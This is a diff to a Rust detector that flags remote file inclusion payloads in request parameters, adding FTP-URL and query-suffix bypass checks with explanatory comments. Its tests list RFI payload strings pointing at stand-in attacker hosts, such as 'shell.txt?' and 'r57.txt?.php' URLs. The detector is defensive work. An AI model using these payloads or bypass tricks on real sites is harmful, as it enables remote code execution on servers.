@@ -839,6 +839,20 @@ fn remote_include_url(t: &str) -> bool {
     if !starts(b"//") || b.iter().any(|c| c.is_ascii_whitespace()) {
         return false;
     }
+    // An FTP URL to a server script (`ftp://anonymous@203.0.113.5/pub/shell.php`): FTP
+    // hands the script's source over as it is stored, not the page it would render, so an
+    // include runs the attacker's code; no site links its pages over FTP.
+    let ftp = scheme.len() >= 3 && scheme[..3].eq_ignore_ascii_case(b"ftp");
+    if ftp && starts(b"//") && server_script_file(rest) {
+        return true;
+    }
+    // `??` cuts as `?` does; a query that is only an extension (`shell.txt?.php`) is written
+    // to pass the application's suffix test.
+    let rest = query_extension(rest).unwrap_or(rest);
+    let mut rest = rest;
+    while rest.ends_with(b"??") {
+        rest = &rest[..rest.len() - 1];
+    }
     // `?`, `#` and `%23` all end the path the server is asked for: the query or fragment
     // swallows the suffix the application appends, and a fragment is never sent at all.
     let (body, text_only) = if let Some(body) = rest
@@ -879,6 +893,36 @@ fn remote_include_url(t: &str) -> bool {
             || REMOTE_CODE_TEXT
                 .iter()
                 .any(|e| ext.eq_ignore_ascii_case(e.as_bytes())))
+}
+
+/// Whether the URL after its scheme's colon (`//host/dir/file.ext`) ends in a file with one
+/// of [`SERVER_SCRIPTS`]' extensions, with no query or fragment.
+fn server_script_file(rest: &[u8]) -> bool {
+    let path = &rest[2..];
+    let Some(slash) = memchr::memchr(b'/', path) else {
+        return false;
+    };
+    let path = &path[slash..];
+    if path.iter().any(|&c| matches!(c, b'?' | b'#' | b'&' | b'=')) {
+        return false;
+    }
+    let last = &path[memchr::memrchr(b'/', path).map_or(0, |i| i + 1)..];
+    memchr::memrchr(b'.', last).is_some_and(|dot| {
+        dot > 0
+            && SERVER_SCRIPTS
+                .iter()
+                .any(|e| last[dot + 1..].eq_ignore_ascii_case(e.as_bytes()))
+    })
+}
+
+/// The URL without a query that is only a file extension (`…/shell.txt?.php` gives
+/// `…/shell.txt?`), or `None`.
+fn query_extension(rest: &[u8]) -> Option<&[u8]> {
+    let q = memchr::memrchr(b'?', rest)?;
+    let query = &rest[q + 1..];
+    let ext = query.strip_prefix(b".")?;
+    (!ext.is_empty() && ext.len() <= 5 && ext.iter().all(u8::is_ascii_alphanumeric))
+        .then(|| &rest[..=q])
 }
 
 /// `b` without `suffix` at its end, ignoring ASCII case (`%3F` as `%3f`).
@@ -5071,6 +5115,9 @@ mod prose {
             "http://attacker.com/shell.txt%00",
             "include=http://attacker.com/shell.txt?",
             "page=http://attacker.com/shell.txt%23",
+            "http://evil.example.net/r57.txt?.php",
+            "hTTp://198.51.100.23:8080/inc.txt??",
+            "ftp://anonymous@198.51.100.23/pub/shell.php",
         ] {
             assert!(detect(v, Context::Param).is_some(), "missed {v:?}");
         }
@@ -5082,6 +5129,9 @@ mod prose {
             "url=https://example.com/search?",
             "https://pastebin.com/raw/abcd1234?",
             "see http://example.com/notes.txt#",
+            "ftp://ftp.example.org/pub/linux/README.txt",
+            "ftp://ftp.example.org/pub/tool-1.2.tar.gz",
+            "https://example.com/page.php?.x=1",
         ] {
             assert!(detect(v, Context::Param).is_none(), "flagged {v:?}");
         }
